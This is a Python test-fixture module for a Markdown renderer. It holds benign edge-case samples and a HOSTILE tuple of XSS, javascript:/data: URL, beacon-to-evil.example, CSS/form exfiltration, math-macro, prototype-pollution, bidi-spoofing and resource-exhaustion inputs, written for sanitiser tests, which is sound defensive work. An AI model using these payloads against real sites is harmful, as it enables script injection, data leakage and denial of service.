"""Markdown as models write it, and as nobody should; shared by the tests of the renderer."""

from __future__ import annotations

import random

GOLDEN = {
    "prose": "Hello **bold** and *soft*, `code`, ~~gone~~.\nSecond line.  \nThird line.\n\nNew paragraph.\n",
    "headings": "# One\n\n## Two ##\n### Three\ntext\n\nSetext\n===\n\nOther\n---\n\ntail",
    "lists": "1. a\n2. b\n   - c\n   - d\n\n     loose\n3. e\n\npara\n\n- x\n\n- y\n\n* z\n+ w\n",
    "list then text": "- a\n- b\n\ntext right after\n- c\ntext\n",
    "tasks": "- [x] done\n- [ ] open **bold**\n",
    "fence": "Before\n\n```python\ndef f(x):\n    return x  # ``` not the end\n\n\nprint(f(1))\n```\nAfter\n",
    "fences": "~~~\na\n```\nb\n~~~\n````md\n```js\n1\n```\n````\n   ```\n   indented\n  less\n   ```\n",
    "open fence": "text\n\n```js\nlet a = 1;\n\nlet b",
    "empty fence": "```\n```\n\n```python\n\n```\nend",
    "fence in list": "1. First:\n\n   ```sh\n   ls -la\n   ```\n\n2. Second\n\n   ```\n   x\n   ```\n\ndone\n",
    "table": "| a | b |\n|---|:-:|\n| 1 | **2** |\n| x<br>y | `p|q` |\n\nafter\n",
    "table after text": "text\na | b\n--|--\n1 | 2\nnot a row\n\nend",
    "quote": "> one\ntwo\n> - three\n>\n> ```\n> code\n> ```\n\n> again\n",
    "rules": "a\n\n---\n\n***\nb\n___\n",
    "indented": "para\n\n    code\n\n    more\n\ntext\n    lazy\n",
    "html": '<div onclick="alert(1)">\nraw\n</div>\n\ntext <b>bold</b> <br> end\n\n<!-- open\n\nstill -->\nafter\n',
    "links": 'See [here](https://example.org "t"), <https://auto.example>, https://bare.example and [ref][r].\n\n'
    "![pic](https://example.org/p.png)\n\n[r]: https://example.org/r\n\nLater [r] again.\n",
    "reference last": "Early [late] use.\n\nMore.\n\n[late]: https://late.example\n",
    "entities": "&lt;script&gt; &amp; &copy; &#65; &#x42; &nope; AT&T \\* \\_ &mdash;\n",
    "math": "Inline $a_1 * b_1$ and \\(x^2\\), costs $5 and $6.\n\n"
    "$$\n\\sum_{i=1}^n i\n$$\n\n\\[\nE = mc^2\n\\]\n\ntext\n$$x$$\nmore\n",
    "broken math": "$$\nnot closed\n- item\n\npara $$x$$ tail\n\n$$\na\n$$ tail\n\n\\[ never\n\nend $",
    "notes": "Known[^1] since *long*[^b-2].\n\n"
    "[^1]: https://example.org/why\n[^b-2]: Two **lines**\n    of it\nafter [^x y]\n",
    "thought": "<think>\nFirst, *consider* `x`.\n\n```py\n1\n```\n\n- so\n</think>\n\n**Answer**: 1\n\n</think>\nend\n",
    "thought without its beginning": "Let me see.\n\n```\n</think>\n```\n\n1. one\n</think>\n\nThe answer.\n",
    "thought cut short": "\n<thinking>still\n\nat it </think",
    "no thought": "<think>\n\n</think>\n\nAt once.\n",
    "thought of as text": "`<think>` begins it.\n<think>\n\n    </think>\n</thinks>\n`</think>`\n",
    "thought with links": "<think>[a] and [b]\n\n[a]: https://a.example\n</think>[a], [b]\n\n[b]: https://b.example\n",
    "crlf": "a\r\n\r\n- b\r\n- c\r\n\r\n```\r\nx\r\n```\r\nd\r",
    "unicode": "Grüße 👩‍👩‍👧 **日本語** `код`\n\n1. שלום\n2. مرحبا\n",
    "long line": "short\n\n" + "word *soft* \\_ " * 1500 + "\n\nafter **bold**\n",
    "ambiguous ends": "a\n\n-\n\n1.\n\n#\n\n```",
}

HOSTILE = (
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "text <svg/onload=window.pwned=1> text",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "[x](javascript:window.pwned=1)",
    "[x](JaVaScRiPt:window.pwned=1)",
    "[x](java&#x0A;script:window.pwned=1)",
    "[x](&#106;avascript:window.pwned=1)",
    "[x]( javascript:window.pwned=1)",
    "[x](data:text/html,<script>parent.pwned=1</script>)",
    "[x](vbscript:window.pwned=1)",
    "[x](//evil.example/path)",
    "<javascript:window.pwned=1>",
    "![x](https://evil.example/beacon?secret)",
    "![x](javascript:window.pwned=1)",
    "![x][r]\n\n[r]: https://evil.example/beacon",
    "[r]\n\n[r]: javascript:window.pwned=1",
    "```html\n<script>window.pwned = 1</script>\n```",
    "```<img src=x onerror=window.pwned=1>\nx\n```",
    "`<img src=x onerror=window.pwned=1>`",
    "| <img src=x onerror=window.pwned=1> |\n|---|\n| [a](javascript:window.pwned=1) |",
    "$\\href{javascript:window.pwned=1}{x}$ and $\\includegraphics{https://evil.example/p}$",
    "$$\\html@mathml{<img src=x onerror=window.pwned=1>}{x}$$ $\\htmlData{a=b}{x}$ $\\url{javascript:window.pwned=1}$",
    "<style>body { background: url(https://evil.example/css) }</style>",
    "<link rel=stylesheet href=https://evil.example/css><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><button>Vote</button></form>",
    "<a href='javascript:window.pwned=1'>x</a>",
    ">" * 4000 + " deep",
    "[" * 4000 + "x" + "](y)" * 4000,
    "- " * 2000 + "x",
    "*_" * 5000,
    "\\" * 40_000,
    "<think><script>window.pwned = 1</script>[x](javascript:window.pwned=1)<img src=x onerror=window.pwned=1>",
    "<math><mtext><style><img src=x onerror=window.pwned=1></style></mtext></math>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s></svg><svg><use href='data:image/svg+xml,x'/></svg>",
    "<base href=https://evil.example/><object data=https://evil.example></object><embed src=https://evil.example>",
    "<video src=https://evil.example/v autoplay><source src=https://evil.example/w></video><audio src=//evil.example>",
    "<a href='https://evil.example' ping='https://evil.example/ping' download>x</a><input autofocus onfocus=pwned=1>",
    "[x](https://evil.example/\u202egpj.exe) \u202e\u2066evil\u2069 \u200f[y](https://example.org)\u202c",
    "Z" + "\u0336\u0489\u035c\u0361" * 3000 + " zalgo",
    "[__proto__]: javascript:pwned=1\n[constructor]: data:text/html,x\n\n[__proto__] [constructor] [toString]",
    "```__proto__\nx\n```\n```constructor\nx\n```\n```../../evil\nx\n```\n```toString\nx\n```",
    "&__proto__; &constructor; &toString; &#0; &#x110000; &#xD800; &#9999999;",
    "[^__proto__] [^constructor]\n\n[^__proto__]: [x](javascript:window.pwned=1) <script>window.pwned=1</script>",
    "$\\def\\x{\\x\\x}\\x$ $\\htmlStyle{background:url(https://evil.example)}{x}$ $\\rule{999999em}{999999em}$",
    "$\\htmlClass{dock}{x}$ $\\htmlId{arena}{x}$ $\\url{https://evil.example}$ $" + "{" * 3000 + "}" * 3000 + "$",
    "x" * 1_000_000,
    "*a **b `c [d](e" + " \n" * 20 + '~~f <g h="' + "$$ \\[ \\( " * 500,
    "![" * 3000,
    "| a " * 3000 + "|\n" + "|-" * 3000 + "|\n" + "| b " * 3000 + "|",
    "\n".join("  " * n + "- x" for n in range(300)),
    "[x](http://[::1]:99999/%) [y](https://\x00evil) [z](mailto:?bcc=everyone&body=secret) [w](blob:https://x/y)",
    "\x00\x01\x07\x1b[31mred\ufffe\uffff",
)


def random_document(seed: int) -> str:
    """A mixture of the golden documents' lines, which meets far more corners than whole documents do."""
    rng = random.Random(seed)
    lines = [line for name, text in GOLDEN.items() if name != "long line" for line in text.split("\n")]
    return "\n".join(rng.choice(lines) for _ in range(rng.randint(2, 25)))


def chunks(text: str, seed: int, widths: tuple[int, ...] = (1, 3, 9, 40, 400)) -> list[str]:
    """``text`` cut at random places, into pieces no longer than one of ``widths``."""
    rng = random.Random(seed)
    widest = rng.choice(widths)
    pieces = []
    at = 0
    while at < len(text):
        size = rng.randint(1, widest)
        pieces.append(text[at : at + size])
        at += size
    return pieces
